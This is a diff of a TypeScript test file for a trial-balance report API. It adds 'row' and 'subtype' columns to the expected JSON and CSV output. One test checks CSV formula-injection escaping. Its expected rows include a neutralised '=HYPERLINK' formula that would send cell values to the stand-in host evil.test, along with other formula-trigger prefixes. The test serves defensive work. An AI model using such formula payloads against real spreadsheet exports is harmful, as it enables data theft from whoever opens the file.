@@ -34,9 +34,9 @@ describe('trial balance', () => {
     expect(now.status).toBe(200);
     expect(now.body.data).toMatchObject({ currency: 'KWD', totals: { debit: '500.125', credit: '500.125' } });
     expect(now.body.data.rows).toEqual([
-      { account_id: ids['1010'], code: '1010', name: 'Bank', type: 'asset', debit: '480.125', credit: '0.000' },
-      { account_id: ids['3000'], code: '3000', name: "Owner's Equity", type: 'equity', debit: '0.000', credit: '500.125' },
-      { account_id: ids['6000'], code: '6000', name: 'General Expenses', type: 'expense', debit: '20.000', credit: '0.000' },
+      { account_id: ids['1010'], code: '1010', name: 'Bank', type: 'asset', subtype: 'bank', debit: '480.125', credit: '0.000' },
+      { account_id: ids['3000'], code: '3000', name: "Owner's Equity", type: 'equity', subtype: 'owners_equity', debit: '0.000', credit: '500.125' },
+      { account_id: ids['6000'], code: '6000', name: 'General Expenses', type: 'expense', subtype: 'general_expense', debit: '20.000', credit: '0.000' },
     ]);
     const january = await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2026-01-31');
     expect(january.body.data.rows.map((r: { code: string; debit: string; credit: string }) => [r.code, r.debit, r.credit])).toEqual([
@@ -51,7 +51,10 @@ describe('trial balance', () => {
     const csv = await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2026-01-31', { headers: { accept: 'text/csv' } });
     expect(csv.headers['content-type']).toMatch(/^text\/csv/);
     expect(csv.text).toBe(
-      `account_id,code,name,type,debit,credit\r\n${ids['1010']},1010,Bank,asset,500.125,0.000\r\n${ids['3000']},3000,Owner's Equity,equity,0.000,500.125\r\n,,Total,,500.125,500.125\r\n`,
+      'row,account_id,code,name,type,subtype,debit,credit\r\n' +
+        `account,${ids['1010']},1010,Bank,asset,bank,500.125,0.000\r\n` +
+        `account,${ids['3000']},3000,Owner's Equity,equity,owners_equity,0.000,500.125\r\n` +
+        'total,,,Total,,,500.125,500.125\r\n',
     );
     expectFieldError(await business.sandbox.get('/api/v1/reports/trial-balance?as_of=yesterday'), 'as_of');
   });
@@ -88,13 +91,13 @@ describe('trial balance', () => {
     const csv = await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2026-01-31', { headers: { accept: 'text/csv' } });
     expect(csv.status).toBe(200);
     expect(csv.text.split('\r\n')).toEqual([
-      'account_id,code,name,type,debit,credit',
-      `${ids['1000']},1000,"'=HYPERLINK(""https://evil.test/?leak=""&E2&E3,""Cash"")",asset,12.50,0.00`,
-      `${ids['3000']},3000,'-Owner,equity,0.00,12.50`,
-      `${ids['4100']},4100,Other Income,income,0.00,2.00`,
-      `${ids['6000']},6000,'@SUM(A1),expense,1.00,0.00`,
-      `${ids['7000']},7000,'+1,expense,1.00,0.00`,
-      ',,Total,,14.50,14.50',
+      'row,account_id,code,name,type,subtype,debit,credit',
+      `account,${ids['1000']},1000,"'=HYPERLINK(""https://evil.test/?leak=""&E2&E3,""Cash"")",asset,cash,12.50,0.00`,
+      `account,${ids['3000']},3000,'-Owner,equity,owners_equity,0.00,12.50`,
+      `account,${ids['4100']},4100,Other Income,income,other_income,0.00,2.00`,
+      `account,${ids['6000']},6000,'@SUM(A1),expense,general_expense,1.00,0.00`,
+      `account,${ids['7000']},7000,'+1,expense,exchange_gain_loss,1.00,0.00`,
+      'total,,,Total,,,14.50,14.50',
       '',
     ]);
   });
